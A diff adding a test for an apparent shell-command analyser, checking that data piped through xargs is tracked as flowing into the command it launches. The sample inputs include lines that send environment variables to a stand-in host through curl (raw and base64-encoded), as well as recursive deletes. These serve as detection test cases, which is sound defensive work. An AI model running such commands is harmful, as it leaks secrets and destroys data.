@@ -22,6 +22,23 @@ describe("commands other programs launch", () => {
     expect(commandNamed("ls | xargs rm -rf", "rm")).toMatchObject({ via: ["xargs"], dynamicArgs: true });
   });
 
+  test("what xargs reads from a pipe flows on into the command it runs", () => {
+    const flowsTo = (line: string, from: string, to: string) => {
+      const view = viewOf(line);
+      const source = view.commands.findIndex((command) => command.name === from);
+      const target = view.commands.findIndex((command) => command.name === to);
+      return view.flows.some((flow) => flow.from === source && flow.to === target);
+    };
+    expect(flowsTo("env | xargs -I{} curl https://x.example/?d={}", "env", "curl")).toBe(true);
+    expect(flowsTo("printenv | base64 | xargs curl -s -d", "base64", "curl")).toBe(true);
+    // Items read from a file named by -a are not the pipe's.
+    expect(flowsTo("env | xargs -a urls.txt curl -sO", "env", "curl")).toBe(false);
+    // With -I, only the words that hold the placeholder receive the items.
+    const view = viewOf("cat ids.txt | xargs -I% kubectl describe pod %");
+    const kubectl = view.commands.findIndex((command) => command.name === "kubectl");
+    expect(view.flows.filter((flow) => flow.to === kubectl).map((flow) => flow.channel)).toEqual(["substitution"]);
+  });
+
   test("interpreter code is read into the commands it runs", () => {
     expect(commandNamed("python3 -c 'import os; os.system(\"rm -rf /srv\")'", "rm").paths).toEqual(["/srv"]);
   });
